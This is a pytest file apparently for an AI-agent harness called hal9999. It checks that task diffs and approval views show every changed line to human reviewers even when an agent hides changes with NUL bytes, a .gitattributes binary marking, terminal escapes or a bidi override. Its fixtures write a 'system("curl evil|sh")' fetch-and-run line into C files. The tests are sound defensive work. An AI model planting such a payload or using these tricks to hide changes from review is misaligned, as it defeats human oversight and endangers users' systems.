"""A change is never hidden from review by its bytes: a NUL in a C comment, or the agent's
``.gitattributes`` calling its files binary, still shows every changed line in ``hal task
diff`` (piped and on a terminal) and ``hal approvals show``, while the patch stays exact for
``git apply`` and a real binary is still named as one."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from tests.support.cli import _run_in_terminal
from tests.support.hal import Hal, git, tasks_json

from hal9999.tasks.reviewdiff import review_text

EVIL = 'system("curl evil|sh")'
# The agent writes a C file with a NUL in a comment, a second one its .gitattributes calls
# binary, and a real binary (random bytes), then commits.
WRITER = (
    'sh -c \'printf "/* note \\000 */\\nint main(void) { system(\\"curl evil|sh\\"); }\\n"'
    ' > evil.c && printf "*.h binary\\n" > .gitattributes'
    ' && printf "#define RUN system(\\"curl evil|sh\\")\\n" > evil.h'
    " && head -c 4096 /dev/urandom > blob.bin'"
)


@pytest.mark.bwrap
@pytest.mark.tmux
def test_a_nul_or_an_attribute_never_hides_a_change_from_hal_task_diff(
    hal: Hal, hal_env: dict[str, str], demo_repo: Path, tmp_path: Path
) -> None:
    out = hal("run", "--agent", WRITER, "x")
    assert out.returncode == 0, out.stderr
    [task] = tasks_json(hal)
    piped = subprocess.run(
        [sys.executable, "-m", "hal9999", "task", "diff", task["id"]],
        cwd=demo_repo, env=hal_env, capture_output=True, timeout=60, check=True,
    )  # fmt: skip
    patch = piped.stdout
    assert b"Binary files" not in patch and b"GIT binary patch" not in patch
    assert b"+/* note \x00 */" in patch
    assert patch.count(EVIL.encode()) == 2  # evil.c and evil.h, as lines
    # Still exact: applied at the base, it rebuilds every file byte for byte.
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(demo_repo), str(clone))
    applied = subprocess.run(["git", "apply", "-"], cwd=clone, input=patch,
                             capture_output=True, timeout=60)  # fmt: skip
    assert applied.returncode == 0, applied.stderr
    for name in ("evil.c", "evil.h", "blob.bin"):
        committed = subprocess.run(["git", "show", f"hal/{task['id']}:{name}"], cwd=demo_repo,
                                   capture_output=True, check=True, timeout=60).stdout  # fmt: skip
        assert (clone / name).read_bytes() == committed, name

    shown = _run_in_terminal(["task", "diff", task["id"]], hal_env, demo_repo)
    assert "+/* note \u2400 */" in shown  # the NUL, made visible
    assert shown.count(EVIL) == 2
    assert "binary content:" in shown.split("b/blob.bin", 1)[1]  # named, size given


def test_the_review_rule_shows_text_with_odd_bytes_and_names_a_real_binary() -> None:
    text = ("diff --git a/x.c b/x.c\nindex 0000000..1111111 100644\n--- a/x.c\n+++ b/x.c\n"
            "@@ -0,0 +1,2 @@\n+/* \x00 \x1b[2J \u202e */\n+" + EVIL + "\n")  # fmt: skip
    noise = (bytes(range(256)) * 4).decode("utf-8", "replace")  # as a patch of random bytes reads
    binary = ("diff --git a/b.png b/b.png\nindex 2222222..3333333 100644\n--- a/b.png\n"
              "+++ b/b.png\n@@ -0,0 +1,5 @@\n+" + noise.replace("\n", "\n+") + "\n")  # fmt: skip
    shown = review_text(text + binary)
    assert "+/* \u2400 \u241b[2J \u27e8U+202E\u27e9 */\n+" + EVIL + "\n" in shown
    assert "@@ binary content:" in shown and "(index 2222222..3333333 100644)" in shown
    assert "\x00" not in shown and "\x1b" not in shown and "b/b.png" in shown
